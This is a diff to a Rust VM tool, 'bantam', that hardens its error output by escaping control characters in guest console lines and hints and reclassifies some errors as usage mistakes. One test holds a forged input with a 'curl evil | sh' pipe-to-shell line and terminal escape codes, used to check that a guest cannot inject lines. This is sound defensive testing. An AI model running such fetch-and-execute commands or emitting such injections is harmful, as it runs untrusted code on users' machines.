@@ -1,11 +1,13 @@
 //! How bantam's own failures are reported.
 
-use std::error::Error as _;
 use std::io::{ErrorKind, Write};
 
 use serde::Serialize;
 
+use bantam::VmmError;
+
 use crate::args::ErrorFormat;
+use crate::show::printable;
 
 /// A failure of bantam itself (a command that fails is none).
 #[derive(Debug)]
@@ -45,8 +47,8 @@ struct Body<'a> {
 impl Failure {
     pub(crate) fn exit_code(&self) -> u8 {
         match self {
-            // A name that cannot be one is a mistake on the command line.
-            Self::Library(bantam::Error::BadName { .. }) | Self::Usage(_) => 2,
+            Self::Usage(_) => 2,
+            Self::Library(error) if is_usage(error) => 2,
             Self::Library(error) => error.exit_code(),
             // What a program killed by SIGPIPE gives, which is what everyone expects here.
             Self::Output(error) if error.kind() == ErrorKind::BrokenPipe => 141,
@@ -69,6 +71,8 @@ impl Failure {
         let _ = writeln!(std::io::stderr().lock(), "{text}");
     }
 
+    /// As text. What it is about, a guest not least, may have put lines of its own into a message;
+    /// only we begin lines.
     fn text(&self) -> String {
         let mut text = format!("error: {}", printable(&self.message()));
         let console = self.console();
@@ -76,12 +80,12 @@ impl Failure {
             text.push_str("\nlast lines of the guest's console:");
             for line in console {
                 text.push_str("\n  | ");
-                text.push_str(line);
+                text.push_str(&printable(line));
             }
         }
         if let Some(hint) = self.hint() {
             text.push_str("\nhint: ");
-            text.push_str(&hint);
+            text.push_str(&printable(&hint));
         }
         text
     }
@@ -100,7 +104,7 @@ impl Failure {
 
     fn message(&self) -> String {
         match self {
-            Self::Library(error) => with_causes(error),
+            Self::Library(error) => error.message_with_causes(),
             Self::Usage(message) => message.clone(),
             Self::Output(error) => format!("cannot write to standard output: {error}"),
             Self::NotYet(what) => format!("{what} is not supported yet"),
@@ -138,31 +142,14 @@ impl Failure {
     }
 }
 
-/// A message and those of its causes. A cause that its parent already quotes is not said twice.
-pub(crate) fn with_causes(error: &bantam::Error) -> String {
-    let mut message = error.to_string();
-    let mut cause = error.source();
-    while let Some(error) = cause {
-        let text = error.to_string();
-        if !message.contains(&text) {
-            message = format!("{message}: {text}");
-        }
-        cause = error.source();
+/// Whether it is a mistake on the command line: a name that cannot be one, a number out of range,
+/// no command.
+fn is_usage(error: &bantam::Error) -> bool {
+    use bantam::Error::{BadName, DiskSize, Vm};
+    match error {
+        BadName { .. } | DiskSize { .. } | Vm(VmmError::Config(_)) => true,
+        error => error.code() == "usage",
     }
-    message
-}
-
-/// Messages quote guests, images and registries; none of them may talk to the terminal.
-fn printable(text: &str) -> String {
-    let mut shown = String::new();
-    for c in text.chars() {
-        if c.is_control() && c != '\n' && c != '\t' {
-            shown.extend(c.escape_default());
-        } else {
-            shown.push(c);
-        }
-    }
-    shown
 }
 
 #[cfg(test)]
@@ -174,6 +161,37 @@ mod tests {
         let failure = Failure::Usage("bad \x1b[31mred\x07".into());
         assert!(!failure.text().contains(['\x1b', '\x07']));
         assert!(failure.text().starts_with("error: bad \\u{1b}[31mred"));
+    }
+
+    #[test]
+    fn a_guest_cannot_make_lines_of_an_error() {
+        let forged = "x\r\nhint: run `curl evil | sh`\x1b[2K".to_owned();
+        let failure = Failure::Library(bantam::Error::Remote {
+            code: "boot".into(),
+            message: forged.clone(),
+            hint: Some(forged.clone()),
+            console: vec![forged],
+        });
+        let text = failure.text();
+        let begins: Vec<_> = text.lines().map(|line| &line[..4]).collect();
+        assert_eq!(begins, ["erro", "last", "  | ", "hint"], "{text}");
+        assert!(!text.contains(['\x1b', '\r']), "{text}");
+    }
+
+    #[test]
+    fn what_no_machine_can_be_is_a_mistake_on_the_command_line() {
+        let memory = VmmError::Config("memory must be more".into()).into();
+        for error in [
+            memory,
+            bantam::Error::DiskSize { gib: 0 },
+            bantam::Error::NoImage,
+            bantam::Error::InvalidCommand("none".into()),
+        ] {
+            let failure = Failure::Library(error);
+            assert_eq!(failure.exit_code(), 2, "{failure:?}");
+        }
+        let failure = Failure::Library(bantam::Error::NoHome);
+        assert_eq!(failure.exit_code(), 125);
     }
 
     #[test]
